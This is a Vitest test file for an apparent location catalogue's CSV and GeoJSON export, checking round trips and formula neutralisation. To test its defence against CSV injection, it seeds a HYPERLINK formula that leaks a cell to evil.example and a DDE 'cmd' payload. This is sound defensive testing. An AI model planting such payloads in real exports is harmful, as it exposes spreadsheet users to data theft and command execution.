import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import { asc, eq } from "drizzle-orm";
import type { FeatureCollection, Point } from "geojson";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createTestDatabase } from "../../tests/setup/db";
import { catalogueExport } from "../catalogue/pages";
import { connectDatabase, disconnectDatabase } from "../db";
import type { DatabaseHandle } from "../db/client";
import { locations } from "../db/schema";
import { parseCsv } from "../csv";
import { exportCsv, exportGeoJson } from "./export";
import { importFile } from "./import";
import { RAW_FIELDS } from "./record";

const fixture = (name: string) => path.resolve("tests/fixtures/import", name);

let handle: DatabaseHandle;
let tmp: string;
beforeAll(async () => {
  // The admin route reads the process-wide database (getDatabase).
  handle = await connectDatabase(await createTestDatabase());
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), "export-db-"));
});
afterAll(async () => {
  await disconnectDatabase();
  fs.rmSync(tmp, { recursive: true, force: true });
});
beforeEach(async () => {
  await handle.db.delete(locations);
});

/** Runs an export into memory. */
async function capture(run: (out: Writable) => Promise<number>): Promise<{ text: string; count: number }> {
  const chunks: string[] = [];
  const out = new Writable({
    write(chunk: Buffer | string, _encoding, done) {
      chunks.push(chunk.toString());
      done();
    },
  });
  const count = await run(out);
  return { text: chunks.join(""), count };
}

const allRows = () => handle.db.select().from(locations).orderBy(asc(locations.placeId));

async function importFixtures() {
  for (const name of ["good.csv", "good.json", "good.ndjson"]) {
    const report = await importFile(handle.db, fixture(name));
    expect(report.rejected).toEqual([]);
  }
}

describe(`export (${process.env.TEST_DATABASE_URL ? "PostgreSQL" : "PGlite"})`, () => {
  it("writes CSV that imports back to identical rows", async () => {
    await importFixtures();
    // One listing an owner has priced (docs/product.md section 10): the export must carry it.
    const [priced] = await allRows();
    await handle.db
      .update(locations)
      .set({
        dimensions: [{ width: 12, length: 30 }],
        sizeOffers: [{ width: 12, length: 30, monthlyPrice: 165, availability: "waitlist" }],
        pricesConfirmedAt: new Date("2026-11-01T10:00:00Z"),
        coveredClearanceFeet: 14,
      })
      .where(eq(locations.placeId, priced!.placeId));
    const before = await allRows();
    const { text, count } = await capture((out) => exportCsv(handle.db, out, { pageSize: 2 }));
    expect(count).toBe(7);

    const records = parseCsv(text);
    expect(records[0]).toEqual([...RAW_FIELDS]);
    expect(records.slice(1).map((r) => r[0])).toEqual(before.map((r) => r.placeId));

    const file = path.join(tmp, "export.csv");
    fs.writeFileSync(file, text);
    await handle.db.delete(locations);
    const report = await importFile(handle.db, file, { now: new Date("2030-01-01T00:00:00Z") });
    expect(report).toMatchObject({ accepted: 7, inserted: 7, rejected: [], warnings: [] });
    expect(await allRows()).toEqual(before);

    // Over the same rows, an import of the export changes nothing but the edit counter, which
    // makes an owner's form opened before the import stale.
    const again = await importFile(handle.db, file);
    expect(again).toMatchObject({ accepted: 7, updated: 7 });
    expect(await allRows()).toEqual(before.map((row) => ({ ...row, version: row.version + 1 })));
  });

  it("neutralises spreadsheet formulas in the admin export, and the import takes them back as typed", async () => {
    await importFixtures();
    const [first, second] = await allRows();
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    const owned = {
      parkingOptions: hyperlink,
      paymentOptions: dde,
      description: "-2+3 spaces left",
      phoneNumber: "+1 555-0100",
      website: "https://example.com/=a",
    };
    await handle.db
      .update(locations)
      .set({ ...owned, accessibilityOptions: "\t=1+1" })
      .where(eq(locations.placeId, first!.placeId));
    await handle.db
      .update(locations)
      .set({ parkingOptions: "'=already marked", paymentOptions: "+Cash" })
      .where(eq(locations.placeId, second!.placeId));
    const before = await allRows();

    const response = catalogueExport(new Request("http://localhost/admin/locations/export?format=csv"));
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    const column = (name: string) => header!.indexOf(name);
    const row = rows.find((r) => r[0] === first!.placeId)!;
    expect(row[column("parking_options")]).toBe(`'${hyperlink}`);
    expect(row[column("payment_options")]).toBe(`'${dde}`);
    expect(row[column("accessibility_options")]).toBe("'\t=1+1");
    expect(row[column("description")]).toBe("'-2+3 spaces left");
    expect(row[column("phone_number")]).toBe("'+1 555-0100");
    // Numbers stay numbers: a longitude is not a formula and must not become text.
    expect(row[column("longitude")]).toBe(String(first!.longitude));
    expect(Number(row[column("longitude")])).toBeLessThan(0);
    for (const record of rows) for (const cell of record) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);

    // Export -> import gives back what the owners typed, apostrophes and all.
    const file = path.join(tmp, "formulas.csv");
    fs.writeFileSync(file, text);
    await handle.db.delete(locations);
    const report = await importFile(handle.db, file);
    expect(report).toMatchObject({ accepted: 7, rejected: [] });
    // The importer trims text, as it always has: the tab goes, the formula stays text.
    const trimmed = (rows: typeof before) =>
      rows.map((r) => (r.placeId === first!.placeId ? { ...r, accessibilityOptions: "=1+1" } : r));
    expect(await allRows()).toEqual(trimmed(before));
    const [restored, kept] = await allRows();
    expect(restored).toMatchObject(owned);
    expect(kept).toMatchObject({ parkingOptions: "'=already marked", paymentOptions: "+Cash" });
  });

  it("writes GeoJSON points for the located rows", async () => {
    await importFixtures();
    const { text, count } = await capture((out) => exportGeoJson(handle.db, out, { pageSize: 3 }));
    const collection = JSON.parse(text) as FeatureCollection<Point>;
    expect(collection.type).toBe("FeatureCollection");
    expect(count).toBe(6);
    expect(collection.features).toHaveLength(6);
    expect(collection.features.map((f) => f.properties?.place_id)).not.toContain("ChIJgood-nocoords-0003");
    const austin = collection.features.find((f) => f.properties?.place_id === "ChIJgood-austin-0001");
    expect(austin?.geometry).toEqual({ type: "Point", coordinates: [-97.7431, 30.2672] });
    expect(austin?.properties).toMatchObject({
      slug: "joes-big-rig-rv-storage-north-lot-austin-tx-chijgoodaustin0001",
      name: 'Joe\'s "Big Rig" RV Storage, North Lot',
      state: "TX",
      tier: "Pro",
      user_ratings_total: 1234,
      dimensions: "10x20, 12x30, 14x40, 10x25",
      has_covered_parking: true,
      dump_station: false,
      parking_options: "Free parking lot",
    });
  });

  it("writes a header or an empty collection for an empty catalogue", async () => {
    const csv = await capture((out) => exportCsv(handle.db, out));
    expect(csv).toEqual({ text: `${RAW_FIELDS.join(",")}\r\n`, count: 0 });
    const geojson = await capture((out) => exportGeoJson(handle.db, out));
    expect(JSON.parse(geojson.text)).toEqual({ type: "FeatureCollection", features: [] });
  });
});
